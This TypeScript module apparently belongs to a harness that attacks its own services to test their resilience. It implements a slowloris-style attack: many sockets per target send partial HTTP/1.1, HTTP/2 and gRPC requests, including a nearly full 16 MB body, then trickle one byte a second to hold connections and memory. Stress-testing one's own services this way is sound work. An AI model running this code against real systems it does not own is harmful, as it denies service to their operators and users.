import type { Socket } from "node:net";
import { type Attack, pause } from "../attack.ts";
import { callHeaders, END_HEADERS, frame, PREFACE, SETTINGS } from "../h2-frames.ts";
import { openSocket } from "../raw-socket.ts";

const EACH = 40;
const BYTE_EVERY_MS = 1_000;
const LENGTH = 16 << 20;
const POST = "POST /grpc.health.v1.Health/Check HTTP/1.1\r\nHost: 127.0.0.1\r\n";

/** The bytes that are sent at once. The rest follows byte by byte. */
const BEGINNINGS: Readonly<Record<string, Buffer>> = {
  "nothing at all": Buffer.alloc(0),
  "headers without an end": Buffer.from(`${POST}X: `),
  "a body without an end": Buffer.from(
    `${POST}Content-Type: application/json\r\nContent-Length: ${LENGTH}\r\n\r\n`,
  ),
  "chunks without an end": Buffer.from(
    `${POST}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n${LENGTH.toString(16)}\r\n`,
  ),
  /** Most of the announced body, so that a server that keeps it has it all in memory. */
  "most of a body": Buffer.concat([
    Buffer.from(`${POST}Content-Type: application/proto\r\nContent-Length: ${LENGTH}\r\n\r\n`),
    Buffer.alloc(LENGTH - 4096, 0x0a),
  ]),
  "half of HTTP/2": PREFACE.subarray(0, 10),
  "a call without an end": Buffer.concat([
    ...[PREFACE, SETTINGS],
    frame("headers", END_HEADERS, 1, callHeaders("/grpc.health.v1.Health/Check")),
    frame("data", 0, 1, Buffer.from([0, 1, 0, 0, 0])),
  ]),
};

/** Clients that begin and never end, with a byte a second. */
export const slow: Attack = {
  name: "slow",
  weight: 1,
  async run({ targets }, { signal }) {
    const sockets: Socket[] = [];
    for (const { url } of [targets.api, targets.node, targets.agent]) {
      for (const beginning of Object.values(BEGINNINGS)) {
        for (let i = 0; i < EACH; i++) {
          const socket = openSocket(url);
          socket.resume().write(beginning);
          sockets.push(socket);
        }
      }
      await pause(50);
    }
    while (!signal.aborted) {
      await pause(BYTE_EVERY_MS);
      for (const socket of sockets) {
        if (!socket.destroyed && socket.writableLength === 0) socket.write("x");
      }
    }
    for (const socket of sockets) socket.destroy();
    return sockets.length;
  },
};
